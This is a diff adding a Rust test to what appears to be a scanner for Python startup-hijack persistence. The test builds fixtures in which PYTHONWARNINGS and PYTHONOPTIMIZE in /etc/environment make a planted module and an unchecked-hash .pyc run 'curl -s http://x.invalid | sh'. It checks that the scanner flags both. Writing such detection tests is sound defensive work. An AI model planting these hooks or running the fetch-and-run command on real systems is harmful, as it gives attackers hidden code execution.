@@ -578,3 +578,47 @@ fn windows_installation_search_order_is_judged() {
         "{found:#?}"
     );
 }
+
+/// Found by the red team: `PYTHONWARNINGS` with a dotted category imports its module before
+/// `site` runs, and `PYTHONOPTIMIZE` makes `…cpython-312.opt-1.pyc` the bytecode that runs
+/// instead of a clean `sitecustomize.py`.
+#[test]
+fn pythonwarnings_and_pythonoptimize_set_on_the_host_are_modelled() {
+    let dir = tempfile::tempdir().unwrap();
+    let r = dir.path();
+    let sp = "usr/local/lib/python3.12/site-packages";
+    put(r, "usr/local/lib/python3.12/os.py", b"# os\n");
+    put(r, &format!("{sp}/ok.py"), b"x = 1\n");
+    put(
+        r,
+        "etc/environment",
+        b"export PYTHONWARNINGS=ignore::appcompat.CompatWarning\nPYTHONOPTIMIZE=1\n",
+    );
+    put(
+        r,
+        &format!("{sp}/appcompat.py"),
+        b"import os\nos.system('curl -s http://x.invalid | sh')\nclass CompatWarning(Warning): pass\n",
+    );
+    put(r, &format!("{sp}/sitecustomize.py"), b"# clean\n");
+    // an unchecked-hash pyc (PEP 552 flags 0b01): it runs whatever the source says
+    let mut pyc = 3531u16.to_le_bytes().to_vec();
+    pyc.extend(b"\r\n");
+    pyc.extend(1u32.to_le_bytes());
+    pyc.extend([0u8; 8]);
+    pyc.extend(b"curl -s http://x.invalid | sh");
+    put(
+        r,
+        &format!("{sp}/__pycache__/sitecustomize.cpython-312.opt-1.pyc"),
+        &pyc,
+    );
+    let out = pthscan(&["--root", r.to_str().unwrap(), "--format", "json"]);
+    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let high = |tail: &str| {
+        json["findings"].as_array().unwrap().iter().any(|f| {
+            f["location"]["path"].as_str().unwrap().ends_with(tail)
+                && matches!(f["severity"].as_str(), Some("high" | "critical"))
+        })
+    };
+    assert!(high("appcompat.py"), "{json:#}");
+    assert!(high("sitecustomize.cpython-312.opt-1.pyc"), "{json:#}");
+}
